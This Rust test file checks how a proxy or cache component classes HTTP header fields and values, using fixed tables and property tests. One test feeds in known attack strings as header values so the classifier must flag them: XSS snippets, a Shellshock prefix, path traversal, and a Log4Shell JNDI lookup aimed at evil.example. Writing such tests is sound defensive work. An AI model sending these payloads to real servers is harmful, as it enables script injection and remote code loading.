//! Classes by name and by value.

use proptest::prelude::*;

use super::*;

fn class(name: &str, values: &[&[u8]]) -> Class {
    class_with(name, values, &Moved::default())
}

fn class_with(name: &str, values: &[&[u8]], moved: &Moved<'_>) -> Class {
    let name = HeaderName::from_bytes(name.as_bytes()).unwrap();
    let mut fields = HeaderMap::new();
    for value in values {
        fields.append(&name, HeaderValue::from_bytes(value).unwrap());
    }
    let class = class_of(&name, fields.get_all(&name), moved);
    let listed: Vec<_> = classes(&fields, moved).map(|(name, class, _)| (name.clone(), class)).collect();
    assert_eq!(listed, [(name, class)]);
    class
}

fn one(name: &str, value: &str) -> Class {
    class(name, &[value.as_bytes()])
}

#[test]
fn names_alone_say_it_of_what_is_not_ordinary() {
    for (name, expected) in [
        ("host", Class::Own),
        ("connection", Class::Own),
        ("te", Class::Own),
        ("content-length", Class::Own),
        ("if-none-match", Class::Own),
        ("range", Class::Own),
        ("accept-encoding", Class::Own),
        ("origin", Class::Own),
        ("x-forwarded-for", Class::Own),
        ("x_forwarded_for", Class::Own),
        ("x-forwarded_for", Class::Own),
        ("forwarded", Class::Own),
        ("true-client-ip", Class::Own),
        ("levee-token", Class::Own),
        ("levee_token", Class::Own),
        ("cdn-loop", Class::Own),
        ("cf-ray", Class::Platform),
        ("cf_ray", Class::Platform),
        ("cf-connecting-ip", Class::Platform),
        ("cf-ipcountry", Class::Platform),
        ("x-amz-cf-id", Class::Platform),
        ("authorization", Class::Credential),
        ("cookie", Class::Credential),
        ("x-api-key", Class::Credential),
        ("x_api_key", Class::Credential),
        ("cf-access-jwt-assertion", Class::Credential),
        // Platforms and proxies say who the user is, too: no family is taken whole.
        ("cf-cert-subject-dn", Class::Particular),
        ("x-amzn-oidc-identity", Class::Particular),
        ("x-forwarded-user", Class::Credential),
        ("x-forwarded-prefix", Class::Particular),
        ("x-envoy-original-path", Class::Particular),
        ("x-original-url", Class::Particular),
        ("x-rewrite-url", Class::Particular),
        ("x-http-method-override", Class::Particular),
        ("x-requested-with", Class::Particular),
        ("hx-request", Class::Particular),
        ("rsc", Class::Particular),
        ("git-protocol", Class::Particular),
        ("last-event-id", Class::Particular),
        ("content-type", Class::Particular),
        ("user_agent", Class::Particular),
        ("accept_language", Class::Particular),
        ("x_request_id", Class::Particular),
        ("sec-ch-ua-model", Class::Particular),
        ("sec-purpose", Class::Particular),
        ("date", Class::Particular),
    ] {
        assert_eq!(one(name, "1"), expected, "{name}");
        assert_eq!(class(name, &[b"1", b"\xff"]), expected, "{name}");
    }
}

#[test]
fn the_configuration_moves_fields() {
    let names = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect::<Vec<_>>();
    let credential = names(&["x-session", "user-agent", "host"]);
    let particular = names(&["accept", "cf-ipcountry", "x-session", "cookie"]);
    let ordinary =
        names(&["x-app-version", "accept", "x-csrf-token", "authorization", "cookie", "connection"]);
    let moved = Moved { credential: &credential, particular: &particular, ordinary: &ordinary };
    for (name, expected) in [
        ("x-session", Class::Credential),
        ("user-agent", Class::Credential),
        ("accept", Class::Particular),
        ("cf-ipcountry", Class::Particular),
        ("x-app-version", Class::Ordinary),
        ("x-csrf-token", Class::Ordinary),
        ("authorization", Class::Credential),
        ("cookie", Class::Credential),
        ("host", Class::Own),
        ("connection", Class::Own),
        ("x-other", Class::Particular),
    ] {
        assert_eq!(class_with(name, &[b"*/*", b"<"], &moved), expected, "{name}");
    }
}

#[test]
fn a_second_line_or_an_odd_byte_is_not_ordinary() {
    for (name, _) in &names::FIELDS {
        if !matches!(names::look_up(name), Some(Kind::Ordinary(_) | Kind::Identifier(_))) {
            continue;
        }
        assert_eq!(one(name, ""), Class::Ordinary, "{name}");
        assert_eq!(class(name, &[b"", b""]), Class::Particular, "{name}");
        for odd in ["\u{e4}", "\t", "<", ">", "\"", "'", "\\", "`", "{", "}", "&", "^"] {
            let value: Vec<u8> = odd.chars().map(|c| c as u8).collect();
            assert_eq!(class(name, &[&value]), Class::Particular, "{name}: {odd}");
            assert_eq!(
                class(name, &[&[b"1".as_slice(), &value].concat()]),
                Class::Particular,
                "{name}: {odd}"
            );
        }
        assert_eq!(one(name, &"1".repeat(2000)), Class::Particular, "{name}");
    }
}

#[test]
fn values_that_clients_send_are_ordinary() {
    for (name, value) in [
        ("accept", "*/*"),
        ("accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"),
        (
            "accept",
            "image/webp,image/avif,image/jxl,image/heic,image/heic-sequence,video/*;q=0.8,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5",
        ),
        ("accept", "application/json; charset=utf-8"),
        ("accept-language", "de-CH,de;q=0.9,en-US;q=0.8,*;q=0.5"),
        ("accept-language", "zh-Hans-CN, zh;q=0.8"),
        ("accept-language", "*"),
        ("accept-charset", "ISO-8859-1,utf-8;q=0.7,*;q=0.7"),
        ("priority", "u=0, i"),
        ("priority", "i"),
        ("priority", "u=3"),
        ("cache-control", "no-cache, no-store, must-revalidate"),
        ("cache-control", "max-age=0"),
        ("sec-ch-ua", "\" Not A;Brand\";v=\"99\", \"Chromium\";v=\"98\", \"Google Chrome\";v=\"98\""),
        ("sec-ch-ua-platform", "\"Chrome OS\""),
        ("sec-ch-ua-platform", "\"\""),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("tracestate", "dd=s:2;o:rum;t.dm:-4,33@nr=0-0-33-1-27ddd2d8890283b4--1--1569367663277"),
        (
            "baggage",
            "sentry-environment=production,sentry-transaction=%2Fusers%2F%3Aid,sentry-release=shop%401.2.3",
        ),
        ("sentry-trace", "4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-1"),
        ("request-id", "|4bf92f3577b34da6a3ce929d0e0e4736.00f067aa0ba902b7."),
        ("b3", "80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1-05e3ac9a4f6e3b90"),
        ("b3", "0"),
        ("x-amzn-trace-id", "Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1"),
        ("x-cloud-trace-context", "105445aa7843bc8bf206b12000100000/1;o=1"),
        ("uber-trace-id", "3d5f1c2b9a8e7d60:1a2b3c4d5e6f7081:0:1"),
        ("referer", "https://a.example/w/Foo_(bar)?q=%C3%A4&x=1"),
        ("from", "bingbot(at)microsoft.com"),
    ] {
        assert_eq!(one(name, value), Class::Ordinary, "{name}: {value}");
    }
}

#[test]
fn values_that_select_or_attack_are_particular() {
    for (name, value) in [
        // One of several forms of a resource.
        ("accept", "application/vnd.github.v3+json"),
        ("accept", "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"),
        ("accept", "application/json;odata=verbose"),
        ("accept", "application/activity+json"),
        ("accept", "application/xml"),
        ("accept", "application/xml, */*"),
        ("accept", "text/plain"),
        ("accept", "text/csv"),
        ("accept", "image/png"),
        ("accept", "application/vnd.docker.distribution.manifest.v2+json, */*"),
        ("accept", "text/vnd.turbo-stream.html, text/html, application/xhtml+xml"),
        ("accept", "text/html;level=1"),
        ("accept", "text/html;q=2"),
        ("accept", "text/html,,*/*"),
        ("accept-language", "en_US"),
        ("accept-language", "e"),
        ("accept-language", "en;x=1"),
        ("accept-language", "evilpayload"),
        ("user-agent", "<script>alert(1)</script>"),
        ("user-agent", "Mozilla/5.0 \" onmouseover=alert(1)"),
        ("user-agent", "${jndi:ldap://evil.example/a}"),
        ("user-agent", "() { :; }; echo"),
        ("user-agent", "x onfocus=alert(1)"),
        ("user-agent", "javascript:alert(1)"),
        ("user-agent", "App%3Cb%3E/1"),
        ("user-agent", "Mozilla/5.0 (X11; Linux"),
        ("user-agent", "Mozilla/5.0 X11; Linux)"),
        ("user-agent", "((((a))))"),
        ("user-agent", "(a]"),
        ("user-agent", "pip/24.0 {\"ci\":null}"),
        ("sec-fetch-mode", "evil"),
        ("sec-fetch-site", "same-origin, none"),
        ("sec-ch-ua", "\"<b>\";v=\"1\""),
        ("sec-ch-ua", "\"Chromium\";v=\"1x\""),
        ("sec-ch-ua", "\"Chromium\";v=\"1\","),
        ("sec-ch-ua-mobile", "?2"),
        ("sec-ch-ua-platform", "\"TempleOS\""),
        ("priority", "u=8"),
        ("priority", "u=1, u=2"),
        ("cache-control", "x-evil"),
        ("cache-control", "max-age=1x"),
        ("cache-control", "no-cache=\"x\""),
        ("pragma", "x"),
        ("upgrade-insecure-requests", "2"),
        ("traceparent", "00-00000000000000000000000000000000-00f067aa0ba902b7-01"),
        ("traceparent", "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("traceparent", "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01"),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-x"),
        ("tracestate", "a=<b>"),
        ("baggage", "tenant=7"),
        ("baggage", "sentry-release=%3Cb%3E"),
        ("sentry-trace", "4bf92f3577b34da6a3ce929d0e0e4736"),
        ("x-request-id", "a b"),
        ("x-request-id", "/../admin"),
        ("x-amzn-trace-id", "Root=1-67891233-abc;CalledFrom=app"),
        ("referer", "javascript:alert(1)"),
        ("referer", "https://a.example/%3Cscript%3E"),
        ("referer", "https://a.example/'"),
        ("referer", "https://user@a.example/"),
        ("from", "a@b.example, c@d.example"),
        ("early-data", "2"),
        ("expires", "Thu, 01 Jan 1970 00:00:00 GMT"),
    ] {
        assert_eq!(one(name, value), Class::Particular, "{name}: {value}");
    }
}

#[test]
fn what_proxies_add_is_known_in_any_spelling() {
    let name = |name: &str| HeaderName::from_bytes(name.as_bytes()).unwrap();
    for added in [
        "x-forwarded-for",
        "X_Forwarded_Host",
        "x-forwarded-user",
        "x_forwarded_prefix",
        "x-real-ip",
        "x-real-user",
        "forwarded",
        "cf-ray",
        "cf_connecting_ip",
        "cf-ipcountry",
    ] {
        assert!(is_added_on_the_way(&name(added)), "{added}");
    }
    for other in ["host", "via", "user-agent", "x-request-id", "x-forwardedness", "x-realm", "cookie"] {
        assert!(!is_added_on_the_way(&name(other)), "{other}");
    }
    for (field, address, visitor) in [
        ("x-forwarded-for", true, false),
        ("cf-connecting-ip", true, false),
        ("x_real_ip", true, false),
        ("cf-ipcountry", false, true),
        ("cloudfront-is-mobile-viewer", false, true),
        ("cf-ray", false, false),
        ("x-forwarded-proto", false, false),
    ] {
        assert_eq!((tells_address(&name(field)), tells_visitor(&name(field))), (address, visitor), "{field}");
    }
    assert!(is_request_identifier(&name("traceparent")) && is_request_identifier(&name("X-Request-Id")));
    assert!(!is_request_identifier(&name("user-agent")) && !is_request_identifier(&name("x_request_id")));
    assert!(is_spelling_of("x_tenant-id", "x-tenant_id") && !is_spelling_of("x-tenant", "x-tenants"));
}

/// Names of fields that have a grammar.
fn with_grammar() -> impl Strategy<Value = &'static str> {
    let names: Vec<&str> = names::FIELDS
        .iter()
        .filter(|(_, kind)| matches!(kind, Kind::Ordinary(_) | Kind::Identifier(_)))
        .map(|(name, _)| *name)
        .collect();
    proptest::sample::select(names)
}

/// A value without its percent-encoding, once.
fn decoded(value: &[u8]) -> Vec<u8> {
    let mut decoded = Vec::new();
    let mut rest = value;
    while let [first, tail @ ..] = rest {
        let digits =
            tail.get(..2).filter(|_| *first == b'%').and_then(|digits| std::str::from_utf8(digits).ok());
        match digits.and_then(|digits| u8::from_str_radix(digits, 16).ok()) {
            Some(byte) => {
                decoded.push(byte);
                rest = &tail[2..];
            }
            None => {
                decoded.push(*first);
                rest = tail;
            }
        }
    }
    decoded
}

proptest! {
    /// No grammar lets through a byte that markup, a script, a shell or a template needs, whatever stands around it.
    #[test]
    fn no_ordinary_value_carries_markup(
        name in with_grammar(),
        before in "[ -~]{0,12}",
        odd in "[<>'\\\\`{}^]|%3[CcEe]|%2[27]|%60|%00|%0[aAdD]|\\$\\{",
        after in "[ -~]{0,12}",
    ) {
        let value = format!("{before}{odd}{after}");
        prop_assert_eq!(one(name, &value), Class::Particular);
    }

    /// Nothing hides in percent-encoding, however often an origin decodes it.
    #[test]
    fn no_ordinary_value_hides_markup(
        name in proptest::sample::select(vec!["baggage", "referer", "user-agent"]),
        parts in proptest::collection::vec("%[0-9A-Fa-f]{2}|%25|%3C|%C3%A4|%EF%BC%9C|[a-z0-9/.:?-]", 0..12),
    ) {
        let start = match name {
            "baggage" => "sentry-release=",
            "referer" => "https://a.example/",
            _ => "App/",
        };
        let value = format!("{start}{}", parts.concat());
        if one(name, &value) == Class::Ordinary {
            let once = decoded(value.as_bytes());
            let text = String::from_utf8(once.clone()).unwrap_or_else(|_| "<".into());
            let marks = ['<', '>', '"', '\'', '`', '\\', '{', '}', '\u{ff1c}'];
            let is_plain = !text.contains(marks) && !text.contains(char::is_control);
            prop_assert!(is_plain, "{text}");
            prop_assert_eq!(&decoded(&once), &once, "nothing is left to decode");
        }
    }

    /// The bytes that grammars look at, in any order, never have one look beyond the value.
    #[test]
    fn whatever_looks_like_a_value_has_a_class(name in with_grammar(), value in "[%0-9a-fqvu()\\[\\]:=;,./ \"?|-]{0,64}") {
        prop_assert!(matches!(one(name, &value), Class::Ordinary | Class::Particular));
    }

    /// Any bytes have a class, and only visible ASCII is ordinary.
    #[test]
    fn any_value_has_a_class(name in with_grammar(), value in proptest::collection::vec(32_u8..=255, 0..80)) {
        prop_assume!(!value.contains(&127));
        let class = class(name, &[&value]);
        prop_assert!(class == Class::Particular || value.iter().all(u8::is_ascii));
    }

    /// A field that nobody knows selects, whatever it says.
    #[test]
    fn unknown_fields_select(name in "zz-[a-z0-9_-]{0,20}", value in "[ -~]{0,40}") {
        prop_assert_eq!(one(&name, &value), Class::Particular);
    }

    /// Agents made of what clients put into them are ordinary.
    #[test]
    fn agents_are_ordinary(
        products in proptest::collection::vec(("[A-Za-z][A-Za-z0-9_.-]{0,12}", "[0-9]{1,3}(\\.[0-9]{1,4}){0,3}", proptest::option::of("[A-Za-z0-9;,. _/+-]{0,30}")), 1..6),
    ) {
        let parts = products.iter().map(|(name, version, comment)| match comment {
            Some(comment) => format!("{name}/{version} ({comment})"),
            None => format!("{name}/{version}"),
        });
        prop_assert_eq!(one("user-agent", &parts.collect::<Vec<_>>().join(" ")), Class::Ordinary);
    }
}
